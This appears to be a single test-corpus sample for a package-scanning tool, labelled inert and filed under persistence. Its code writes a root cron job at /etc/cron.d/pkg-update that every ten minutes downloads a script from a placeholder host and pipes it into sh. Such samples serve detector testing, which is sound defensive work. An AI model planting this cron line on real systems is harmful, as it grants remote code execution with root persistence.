# pkgguard corpus 094 (persistence), modelled on [linux-persistence]; inert, never run.
with open("/etc/cron.d/pkg-update", "w") as f:
    f.write("*/10 * * * * root curl -s https://cdn.example/u | sh\n")
